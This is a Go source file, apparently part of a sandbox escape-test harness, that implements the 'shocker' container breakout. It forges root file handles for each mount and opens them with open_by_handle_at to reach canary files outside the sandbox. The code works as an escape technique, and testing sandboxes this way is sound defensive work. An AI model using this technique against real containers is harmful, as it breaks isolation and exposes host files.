// The open_by_handle_at class: a file handle made up for the root of a
// file system the box has a mount of (the "shocker" attack).

package main

import (
	"encoding/binary"
	"fmt"
	"strings"

	"github.com/cocoonbox/cocoonbox/api/sandbox/escape"
	"golang.org/x/sys/unix"
)

// handleRoot is the "shocker" attack: a handle made up for the root of
// the file system under each mount (inode 2 on ext4, 128 on xfs;
// generation 0), opened by open_by_handle_at with the mount's own file as
// the mount fd, then the canaries opened by name under it.
func handleRoot(c *escape.Config) (bool, string) {
	var tried []string
	seen := map[string]bool{}
	for _, m := range mounts() {
		if seen[m.dev] || pseudo[m.fstype] {
			continue
		}
		h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, m.point, 0)
		if err != nil {
			tried = append(tried, fmt.Sprintf("%s: name_to_handle_at: %v", m.point, err))
			continue
		}
		if h.Type() != 1 || h.Size() != 8 { // FILEID_INO32_GEN: ino, generation
			tried = append(tried, fmt.Sprintf("%s: handle type %#x", m.point, h.Type()))
			continue
		}
		seen[m.dev] = true
		mfd, err := unix.Open(m.point, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err != nil {
			tried = append(tried, fmt.Sprintf("%s: open: %v", m.point, err))
			continue
		}
		for _, ino := range []uint32{2, 128} {
			b := make([]byte, 8)
			binary.LittleEndian.PutUint32(b, ino)
			fd, err := unix.OpenByHandleAt(mfd, unix.NewFileHandle(1, b), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC)
			if err != nil {
				tried = append(tried, fmt.Sprintf("%s (%s %s): open_by_handle_at(inode %d): %v", m.point, m.fstype, m.dev, ino, err))
				continue
			}
			t, n, ok := findUnder(fd, targets(c))
			unix.Close(fd)
			if ok {
				unix.Close(mfd)
				return true, fmt.Sprintf("through a handle of inode %d made up beside %s (%s %s): opened %s, read %d bytes", ino, m.point, m.fstype, m.dev, t, n)
			}
			tried = append(tried, fmt.Sprintf("%s (%s %s): opened the root (inode %d) but no canary under it", m.point, m.fstype, m.dev, ino))
		}
		unix.Close(mfd)
	}
	return false, strings.Join(tried, "; ")
}
